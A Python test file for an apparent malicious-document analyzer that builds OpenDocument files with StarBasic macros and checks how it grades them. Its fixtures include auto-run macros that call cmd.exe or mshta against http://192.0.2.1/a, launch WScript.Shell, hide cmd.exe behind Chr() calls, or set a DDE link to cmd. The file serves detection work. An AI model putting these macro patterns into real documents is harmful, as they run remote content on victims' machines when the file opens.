"""Macros of OpenDocument files, built part by part."""

import io
import random
import zipfile
from xml.sax.saxutils import escape

import pytest

from sekisho.analyzers.odf_macros import analyze, is_open_document
from sekisho.app.examine import analyse
from sekisho.model.artifact import Artifact, Feature
from sekisho.model.errors import LimitError, MalformedError
from sekisho.normalize.artifacts import graded

ON_LOAD = "dom:load"
SHELL = 'Sub Main\nShell("cmd.exe", 0, "/c start http://192.0.2.1/a", False)\nEnd Sub\n'


def odt(modules=(), event="", content="", **parts):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text")
        for number, source in enumerate(modules, 1):
            text = f'<script:module xmlns:script="s" script:name="Module{number}" script:language="StarBasic">{escape(source)}</script:module>'
            archive.writestr(f"Basic/Standard/Module{number}.xml", text)
        archive.writestr("Basic/Standard/script-lb.xml", '<library:library xmlns:library="l"/>')
        listener = (
            f'<script:event-listener script:language="ooo:script" script:event-name="{event}" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
            if event
            else ""
        )
        archive.writestr(
            "content.xml",
            f'<office:document-content xmlns:office="o" xmlns:script="s" xmlns:xlink="x"><office:scripts><office:event-listeners>{listener}</office:event-listeners></office:scripts>{content}</office:document-content>',
        )
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def read(data, name="a.odt"):
    features, children, error = {}, [], None
    artifact = Artifact(name, data, name)
    if not is_open_document(artifact):
        return features, children, error
    try:
        for one in analyze(artifact):
            if isinstance(one, Feature):
                features.setdefault(one.name, []).append(one.value)
            else:
                children.append(one)
    except (MalformedError, LimitError) as raised:
        error = raised
    return features, children, error


def test_a_macro_that_an_event_starts():
    features, children, error = read(odt([SHELL], ON_LOAD))
    assert error is None
    assert features["odf.event"] == [
        "dom:load: vnd.sun.star.script:Standard.Module1.Main?language=Basic&location=document"
    ]
    assert features["odf.module"] == ["Module1"]
    assert features["macro.grade"] == ["auto_exec"]
    assert features["vba.commands"] == ["cmd.exe /c start http://192.0.2.1/a"]
    assert [(child.name, child.relation) for child in children][:2] == [("Module1.bas", "macro"), ("Shell", "decoded")]
    assert children[0].data == SHELL.encode()


@pytest.mark.parametrize(
    ("source", "event", "grade"),
    [
        (SHELL, "", "inert"),
        (SHELL, "form:performaction", "inert"),
        ('Sub Main\nMsgBox "hello"\nEnd Sub', ON_LOAD, "auto_run"),
        (
            'Sub Main\nDim s\ns = createUnoService("com.sun.star.system.SystemShellExecute")\ns.execute("mshta", "http://192.0.2.1/a", 0)\nEnd Sub',
            "office:view-created",
            "auto_exec",
        ),
        (
            'Sub Main\nf = createUnoService("com.sun.star.bridge.oleautomation.Factory")\nw = f.createInstance("WScript.Shell")\nw.Run("cmd /c x", 0)\nEnd Sub',
            ON_LOAD,
            "auto_exec",
        ),
        (
            'Sub Main\nDim c As String\nc = Chr(99) & Chr(109) & Chr(100) & ".exe /c x"\nShell(c)\nEnd Sub',
            ON_LOAD,
            "obfuscated_exec",
        ),
    ],
)
def test_grades(source, event, grade):
    assert read(odt([source], event))[0]["macro.grade"] == [grade]


def test_the_grade_stands_on_the_document():
    artifact = Artifact("a.odt", odt([SHELL], ON_LOAD), "a.odt")
    (analysis,) = graded([analyse(artifact).analysis])
    assert {"odf_macros", "ooxml"} <= set(analysis.analyzers)
    assert analysis.values("macro.grade") == ["auto_exec"]


def test_scripts_and_links():
    content = '<text:dde-connection-decl xmlns:text="t" office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/>'
    data = odt(content=content, **{"Scripts/python/a.py": "import os"})
    features, (child,), error = read(data)
    assert error is None
    assert features == {"odf.dde": ["cmd|/c calc|x"], "odf.script": ["Scripts/python/a.py"]}
    assert child.data == b"import os"


def test_documents_without_macros_and_others():
    assert read(odt()) == ({}, [], None)
    assert not is_open_document(Artifact("a.docx", b"PK\3\4[Content_Types].xml", "a.docx"))


def test_only_foreseen_errors_come_out_of_broken_packages():
    dice = random.Random(4)
    seed = odt([SHELL], ON_LOAD)
    for _ in range(200):
        data = bytearray(seed)
        for _ in range(dice.randrange(1, 8)):
            data[dice.randrange(4, len(data))] = dice.randrange(256)
        read(bytes(data[: dice.randrange(len(data) // 2, len(data) + 1)]))
